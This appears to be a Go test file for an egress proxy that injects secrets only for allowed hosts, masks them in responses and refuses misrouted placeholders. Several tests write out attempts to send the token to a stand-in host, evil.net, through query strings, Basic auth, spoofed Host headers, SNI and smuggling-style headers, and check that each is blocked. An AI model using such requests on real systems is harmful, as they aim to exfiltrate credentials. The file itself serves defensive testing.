package egress

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"net/netip"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"
)

const token = "ghp_Zk3/9+wQ&x=Secret~Value"

// api is https://api.example.com/, and what gets the secret TOKEN there, in any header, and
// KEY in the parameter key; a real server with TLS that the proxy verifies.
func api(t *testing.T, answer http.HandlerFunc) (*world, *http.Client, map[string]string) {
	t.Helper()
	made, err := newCertificates([]string{"api.example.com"})
	must(t, err)
	server := httptest.NewUnstartedServer(answer)
	server.TLS = &tls.Config{Certificates: []tls.Certificate{*made.of["api.example.com"]}}
	server.EnableHTTP2 = true
	server.StartTLS()
	t.Cleanup(server.Close)
	w := beginWith(t, Options{
		Hosts: []string{"api.example.com", "evil.net"},
		Secrets: []Secret{
			{"TOKEN", token, []Place{{Host: "api.example.com"}}},
			{"KEY", "the-key-in-queries", []Place{{Host: "api.example.com", Query: "key"}, {Host: "api.example.com", Header: "X-Api-Key"}}},
			{"OTHER", "of-another-host", []Place{{Host: "other.example.com"}}},
		},
	}, func(p *Proxy) {
		p.roots = x509.NewCertPool()
		p.roots.AppendCertsFromPEM(made.authority)
	})
	w.has("api.example.com", outside)
	w.has("evil.net", outside)
	w.puts(netip.AddrPortFrom(outside, 443), server.Listener.Addr().String())
	client := w.client(t)
	transport := client.Transport.(*http.Transport)
	transport.TLSClientConfig, transport.ForceAttemptHTTP2 = &tls.Config{RootCAs: w.trust()}, true
	return w, client, w.proxy.Placeholders()
}

func (w *world) trust() *x509.CertPool {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(w.proxy.Certificate())
	return pool
}

// ask sends a request with headers and returns what came back, headers too.
func ask(t *testing.T, client *http.Client, method, address, body string, header ...string) (int, string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, address, strings.NewReader(body))
	must(t, err)
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	response, err := client.Do(r)
	must(t, err)
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	must(t, err)
	return response.StatusCode, fmt.Sprint(response.Header, response.Trailer) + string(text)
}

func TestTheHostGetsTheSecret(t *testing.T) {
	_, client, have := api(t, func(out http.ResponseWriter, r *http.Request) {
		user, password, _ := r.BasicAuth()
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintln(out, "bearer", r.Header.Get("Authorization") == "Bearer "+token, "basic", user == "me" && password == token,
			"key", r.URL.Query().Get("key") == "the-key-in-queries", r.Header.Get("X-Api-Key") == "the-key-in-queries",
			"host", r.Host, "range", r.Header.Get("Range"), "proto", r.Proto, "body", len(body), strings.HasPrefix(string(body), placeholderHead))
	})
	const at = "https://api.example.com/"
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+have["TOKEN"]))
	for _, c := range []struct {
		address, body, want string
		header              []string
	}{
		{at, "", "bearer true basic false key false false host api.example.com range  proto HTTP/2.0 body 0", []string{"Authorization", "Bearer " + have["TOKEN"]}},
		{at, "", "basic true", []string{"Authorization", basic}},
		{at + "?a=%2f&key=" + have["KEY"], "", "key true false", nil},
		{at, "", "key false true", []string{"X-Api-Key", have["KEY"]}},
		{at, "", "range  proto", []string{"Range", "bytes=0-3"}},
		{at, have["TOKEN"], fmt.Sprintf("body %d true", len(have["TOKEN"])), nil}, // a body is passed on as it is
		{at, strings.Repeat("x", 1<<20), "body 1048576", []string{"Expect", "100-continue"}},
	} {
		code, got := ask(t, client, "POST", c.address, c.body, c.header...)
		expect(t, code == 200 && strings.Contains(got, c.want) && !strings.Contains(got, token), "%v: %d %q", c.header, code, got)
	}
}

// TestWhatComesBackIsMasked: however an honest host gives a secret back, code doesn't see it.
func TestWhatComesBackIsMasked(t *testing.T) {
	forms := map[string]string{"plain": token, "upper": strings.ToUpper(token), "query": url.QueryEscape(token), "hex": hex.EncodeToString([]byte(token)),
		"slashes": `"` + strings.ReplaceAll(token, "/", `\/`) + `"`, "python": strings.ReplaceAll(url.QueryEscape(token), "%2F", "/")}
	for before := range 3 {
		forms[fmt.Sprint("base64 ", before)] = base64.StdEncoding.EncodeToString([]byte("user:"[:before] + token + "after"))
	}
	_, client, _ := api(t, func(out http.ResponseWriter, r *http.Request) {
		text := forms[r.URL.Query().Get("form")]
		out.Header().Set("Set-Cookie", "session="+text)
		out.Header().Set("Location", "https://evil.net/?"+text)
		out.Header().Set("Trailer", "X-Trailer")
		out.Header()["Content-Encoding"] = r.URL.Query()["coding"]
		out.WriteHeader(http.StatusFound)
		for _, c := range []byte("<" + text + ">") { // across the borders of chunks
			_, _ = out.Write([]byte{c})
			out.(http.Flusher).Flush()
		}
		out.Header().Set("X-Trailer", text)
	})
	for name, text := range forms {
		_, got := ask(t, client, "GET", "https://api.example.com/?form="+url.QueryEscape(name), "")
		leaks := strings.Contains(strings.ToLower(got), strings.ToLower(text[4:len(text)-8]))
		expect(t, !leaks && strings.Count(got, placeholderHead+"TOKEN-") == 4, "%s: %q", name, got)
	}
	for _, coding := range []string{"br", "identity&coding=br"} {
		code, got := ask(t, client, "GET", "https://api.example.com/?form=plain&coding="+coding, "")
		expect(t, code == 502 && strings.Contains(got, `br", which`), "%d %q", code, got)
	}
}

// TestMaskingInPieces: wherever what is read is cut.
func TestMaskingInPieces(t *testing.T) {
	s, err := newSecrets([]Secret{{"A", token, nil}, {"B", token + "longer", nil}})
	must(t, err)
	text := token[:9] + token + "longer, " + token + token[:5] + strings.Repeat("x", 50_000) + token
	for _, sameLength := range []bool{false, true} {
		body := &maskedBody{prompt: sameLength, ReadCloser: io.NopCloser(iotest.OneByteReader(strings.NewReader(text))), mask: &s.mask, sameLength: sameLength}
		got, err := io.ReadAll(body)
		expect(t, err == nil && !strings.Contains(string(got), token) && !strings.Contains(string(got), "longer"), "%v, %.300q", err, got)
		expect(t, sameLength == (len(got) == len(text)), "%d of %d", len(got), len(text))
	}
}

// TestAnswersBeforeTheLastAndParts: the first are not told of, the others refused.
func TestAnswersBeforeTheLastAndParts(t *testing.T) {
	_, client, _ := api(t, func(out http.ResponseWriter, r *http.Request) {
		out.Header().Set("Link", token)
		out.WriteHeader(http.StatusEarlyHints)
		out.WriteHeader(http.StatusPartialContent)
	})
	r, err := http.NewRequestWithContext(httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{
		Got1xxResponse: func(code int, header textproto.MIMEHeader) error {
			t.Error(code, header)
			return nil
		},
	}), http.MethodGet, "https://api.example.com/", nil)
	must(t, err)
	response, err := client.Do(r)
	must(t, err)
	_ = response.Body.Close()
	expect(t, response.StatusCode == http.StatusBadGateway, "%v", response.Status)
}

// TestOnlyStreamsArePrompt: of all else the end waits, whatever it says.
func TestOnlyStreamsArePrompt(t *testing.T) {
	text := strings.Repeat("x", 500)
	w, client, _ := api(t, func(out http.ResponseWriter, r *http.Request) {
		out.Header().Set("Content-Type", r.URL.Query().Get("type"))
		_, _ = io.WriteString(out, text)
		out.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	for kind, want := range map[string]int{"text/plain": len(text) - w.proxy.secrets.mask.longest + 1, "text/event-stream; charset=utf-8": len(text), "application/x-ndjson": len(text)} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://api.example.com/?type="+url.QueryEscape(kind), nil)
		must(t, err)
		response, err := client.Do(r)
		must(t, err)
		n, err := response.Body.Read(make([]byte, 1000))
		expect(t, err == nil && n == want, "%s: %d, not %d, %v", kind, n, want, err)
		_ = response.Body.Close()
	}
}

// TestWhereTextIsCutTellsNothing of a guess that the host repeats.
func TestWhereTextIsCutTellsNothing(t *testing.T) {
	s, err := newSecrets([]Secret{{"A", token, nil}})
	must(t, err)
	wrong := strings.Repeat("x", 500)
	for n := 1; n < len(token); n++ {
		_, rest := s.mask.mask(nil, []byte(wrong+token[:n]), false, false, false)
		_, others := s.mask.mask(nil, []byte(wrong+wrong[:n]), false, false, false)
		expect(t, len(rest) == len(others), "%q: %d, not %d", token[:n], len(rest), len(others))
	}
}

// TestWithoutSecretsNothingIsLookedAt: a request is passed on as ever.
func TestWithoutSecretsNothingIsLookedAt(t *testing.T) {
	s, err := newSecrets(nil)
	must(t, err)
	r := httptest.NewRequestWithContext(t.Context(), "GET", "http://a.example.com/?"+placeholderHead+"A-"+strings.Repeat("0", 32), nil)
	must(t, s.guard(r, target{name: "a.example.com", port: 80}))
}

// TestPlaceholdersThatAreNotForThere are refused with a sentence, and sent nowhere.
func TestPlaceholdersThatAreNotForThere(t *testing.T) {
	w, client, have := api(t, func(out http.ResponseWriter, r *http.Request) { t.Error("it came:", r.URL, r.Header) })
	strange := placeholderHead + "TOKEN-" + strings.Repeat("0", 32)
	const at = "https://api.example.com/"
	for _, c := range []struct {
		method, address string
		header          []string
		code            int
		want            string
	}{
		{"GET", at, []string{"X", have["OTHER"]}, 403, "not for this host"},
		{"GET", at, []string{"X", strange}, 403, "does not have"},
		{"GET", at + have["TOKEN"], nil, 403, "stands in the URL"},
		{"GET", at + "?x=" + have["TOKEN"], nil, 403, "stands in the URL"},
		{"GET", at, []string{"Authorization", have["KEY"]}, 403, "into the parameter key"},
		{"TRACE", at, nil, 405, "TRACE"},
		{"GET", "http://evil.net/?" + have["TOKEN"], nil, 403, "not for this host"},
		{"GET", "http://evil.net/", []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("a:"+have["TOKEN"]))}, 403, "not for this host"},
		{"GET", "http://api.example.com/", []string{"Authorization", have["TOKEN"]}, 403, "use https://"},
		{"GET", "http://API.Example.com./", nil, 403, "use https://"},
	} {
		code, got := ask(t, client, c.method, c.address, "", c.header...)
		expect(t, code == c.code && strings.Contains(got, c.want), "%s %v: %d %q", c.address, c.header, code, got)
	}
	log := w.logged()
	expect(t, !strings.Contains(log, token) && strings.Contains(log, "egress: refused"), "%s", log)
}

// TestOtherHostsThroughTheTunnel: neither by Host, nor by an absolute URL, nor by SNI.
func TestOtherHostsThroughTheTunnel(t *testing.T) {
	w, _, have := api(t, func(out http.ResponseWriter, r *http.Request) { t.Error("it came:", r.Host) })
	for _, head := range []string{
		"GET / HTTP/1.1\r\nHost: evil.net\r\n", "GET https://evil.net/ HTTP/1.1\r\nHost: api.example.com\r\n",
		"GET / HTTP/1.1\r\nHost: api.example.com:8443\r\n", "GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.net\r\n",
		"POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: gzip\r\n",
		"GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n",
	} {
		conn := tls.Client(w.tunnel(t, "API.example.com.:443"), &tls.Config{ServerName: "api.example.com", RootCAs: w.trust()})
		_, err := io.WriteString(conn, head+"Authorization: "+have["TOKEN"]+"\r\n\r\n")
		must(t, err)
		response, err := http.ReadResponse(bufio.NewReader(conn), nil)
		must(t, err)
		expect(t, response.StatusCode >= 400, "%q: %s", head, response.Status)
		_ = response.Body.Close()
	}
	err := tls.Client(w.tunnel(t, "api.example.com:443"), &tls.Config{ServerName: "evil.net", InsecureSkipVerify: true}).Handshake()
	expect(t, err != nil, "TLS for another host is answered")
}

// TestTheAuthorityIsForItsHosts alone: a certificate for another one by it is not taken.
func TestTheAuthorityIsForItsHosts(t *testing.T) {
	made, err := newCertificates([]string{"api.example.com"})
	must(t, err)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(made.authority)
	leaf, err := x509.ParseCertificate(made.of["api.example.com"].Certificate[0])
	must(t, err)
	_, err = leaf.Verify(x509.VerifyOptions{Roots: pool, DNSName: "api.example.com"})
	must(t, err)
	_, err = leaf.Verify(x509.VerifyOptions{Roots: pool, DNSName: "evil.net"})
	expect(t, err != nil, "it is good for evil.net")
	authority, err := x509.ParseCertificate(made.of["api.example.com"].Certificate[1])
	must(t, err)
	expect(t, authority.PermittedDNSDomainsCritical && fmt.Sprint(authority.PermittedDNSDomains) == "[api.example.com]" && len(authority.ExcludedIPRanges) == 2,
		"%v, %v", authority.PermittedDNSDomains, authority.ExcludedIPRanges)
	expect(t, !strings.Contains(string(made.authority), "KEY"), "the key is given out")
}

// TestAnUpstreamThatNobodyKnows gets nothing: its certificate is verified as by any client.
func TestAnUpstreamThatNobodyKnows(t *testing.T) {
	w, client, have := api(t, func(_ http.ResponseWriter, r *http.Request) { t.Error("it came:", r.Header) })
	w.proxy.roots.AppendCertsFromPEM(nil)
	stranger := httptest.NewTLSServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { t.Error("it came:", r.Header) }))
	t.Cleanup(stranger.Close)
	w.puts(netip.AddrPortFrom(outside, 443), stranger.Listener.Addr().String())
	code, got := ask(t, client, "GET", "https://api.example.com/", "", "Authorization", have["TOKEN"])
	expect(t, code == 502 && strings.Contains(got, "certificate"), "%d %q", code, got)
}

// TestWebSocketWithASecret: it is opened with one, and frames that have it are masked.
func TestWebSocketWithASecret(t *testing.T) {
	w, _, have := api(t, func(out http.ResponseWriter, r *http.Request) {
		conn, both, err := http.NewResponseController(out).Hijack()
		if err != nil || r.Header.Get("Authorization") != token || r.Header.Get("Sec-Websocket-Extensions") != "" {
			t.Error(err, r.Header)
			return
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
		line, _ := both.ReadString('\n')
		_, _ = io.WriteString(conn, token+line)
	})
	conn := tls.Client(w.tunnel(t, "api.example.com:443"), &tls.Config{ServerName: "api.example.com", RootCAs: w.trust()})
	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: "+have["TOKEN"]+"\r\n\r\n")
	must(t, err)
	reader := bufio.NewReader(conn)
	response, err := http.ReadResponse(reader, nil)
	must(t, err)
	defer response.Body.Close()
	insist(t, response.StatusCode == http.StatusSwitchingProtocols, "%v", response.Status)
	_, _ = io.WriteString(conn, "ping\n")
	line, err := reader.ReadString('\n')
	expect(t, err == nil && line == strings.Repeat("*", len(token))+"ping\n", "%q, %v", line, err)
}

func TestSecretsThatCanNotBeUsed(t *testing.T) {
	for want, s := range map[string]Secret{
		"secret A: its value has 3 bytes":                                {"A", "abc", nil},
		"secret B: its value has more than one line":                     {"B", "abcdefgh\r\nX: y", nil},
		"secret C: host \"1.2.3.4\": a secret is for a name, not for an": {"C", token, []Place{{Host: "1.2.3.4"}}},
	} {
		_, err := New(Options{Secrets: []Secret{s}})
		expect(t, err != nil && strings.HasPrefix(err.Error(), want) && !strings.Contains(err.Error(), s.Value), "%v", err)
	}
}

// TestRealClients trust the proxy by the file, and their requests have the secret.
func TestRealClients(t *testing.T) {
	w, _, have := api(t, func(out http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		if is := r.Header.Get("Authorization") == "Bearer "+token || password == token; strings.HasSuffix(r.URL.Path, "/info/refs") {
			fmt.Fprintf(out, "%040d\trefs/heads/%v\n", 1, is) // as git's dumb protocol has it
		} else {
			fmt.Fprint(out, is)
		}
	})
	file := filepath.Join(t.TempDir(), "trust.pem")
	must(t, os.WriteFile(file, w.proxy.Certificate(), 0o600))
	proxy, err := url.Parse("http://" + w.addr)
	must(t, err)
	_, port, err := net.SplitHostPort(proxy.Host)
	must(t, err)
	for program, args := range map[string][]string{
		"curl": {"-sS", "--cacert", file, "-H", "Authorization: Bearer " + have["TOKEN"], "https://api.example.com/"},
		"git":  {"-c", "http.sslCAInfo=" + file, "-c", "http.extraHeader=Authorization: Bearer " + have["TOKEN"], "ls-remote", "https://api.example.com/r.git"},
		"node": {"-e", `process.argv[1];
const http=require("http"),tls=require("tls");
http.request({port:` + port + `,method:"CONNECT",path:"api.example.com:443"}).on("connect",(_,s)=>{
 const c=tls.connect({socket:s,servername:"api.example.com",ca:require("fs").readFileSync("` + file + `")},()=>c.write("GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\nAuthorization: Bearer ` + have["TOKEN"] + `\r\n\r\n"));
 c.on("data",d=>process.stdout.write(d)); c.on("error",e=>console.log(String(e)))}).end()`},
	} {
		out, _ := w.run(t, program, args...)
		expect(t, strings.Contains(out, "true"), "%s: %s", program, out)
	}
	out, err := w.run(t, python(t), "-c", `
import ssl, sys, urllib.request
ask = urllib.request.Request("https://api.example.com/", headers={"Authorization": "Bearer " + sys.argv[2]})
context = ssl.create_default_context(cafile=sys.argv[1])
context.verify_flags |= ssl.VERIFY_X509_STRICT
print(urllib.request.urlopen(ask, context=context).read())
import requests
print(requests.get("https://api.example.com/", auth=("me", sys.argv[2]), verify=sys.argv[1]).text)
`, file, have["TOKEN"])
	expect(t, err == nil && out == "b'true'\ntrue\n", "%s, %v", out, err)
}
